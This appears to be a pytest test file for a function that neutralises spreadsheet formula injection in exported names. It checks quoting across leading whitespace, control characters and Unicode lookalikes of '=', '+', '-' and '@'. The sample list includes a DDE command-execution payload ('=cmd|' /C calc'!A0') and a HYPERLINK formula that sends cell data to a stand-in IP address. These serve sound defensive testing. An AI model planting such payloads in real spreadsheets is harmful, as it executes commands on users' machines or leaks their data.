"""What a spreadsheet would run, and what it would not."""

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis.report.exports import HARMLESS

_DUCK = duckdb.connect()

FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1/"&A1)']
BEFORE = [
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\x00",
    '"',
    "'",
    ' "\t',
]
FORMS = {
    "=": "\uff1d\ufe66\u207c\u208c",
    "+": "\uff0b\ufe62\u207a\u208a",
    "-": "\uff0d\ufe63\u2212\u207b",
    "@": "\uff20\ufe6b",
}


def harmless(name: str) -> str:
    [[written]] = _DUCK.execute(f"SELECT {HARMLESS} FROM (SELECT ? AS name)", [name]).fetchall()  # noqa: S608  our own
    return str(written)


@pytest.mark.parametrize("before", BEFORE)
@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_in_a_name_is_quoted(before: str, formula: str) -> None:
    first = "'" if before[:1] in {*"\t\r\n\x00"} - {""} else ""
    assert harmless(before + formula) == f"{first}{before}'{formula}"
    assert harmless(f"x;{before}{formula}") == f"x;{before}'{formula}"


@pytest.mark.parametrize("form", [*"".join(FORMS.values())])
def test_formula_in_another_form_is_quoted(form: str) -> None:
    assert harmless(f"{form}1+1") == f"'{form}1+1"
    assert harmless(f" {form}1+1") == f" '{form}1+1"


@pytest.mark.parametrize("name", ["\talice", "\ralice", "\nalice", "\x00"])
def test_name_beginning_with_a_control_character_is_quoted(name: str) -> None:
    assert harmless(name) == f"'{name}"


@pytest.mark.parametrize(
    "name",
    ["alice", " alice", "a=b", "a -1", "'alice", '"alice"', "", "1", "(nobody: refused connections)", "ü", "日本"],
)
def test_harmless_name_is_written_unchanged(name: str) -> None:
    assert harmless(name) == name


@given(st.text())
def test_quoting_for_a_spreadsheet_keeps_the_whole_name(name: str) -> None:
    assert harmless(name).replace("'", "") == name.replace("'", "")
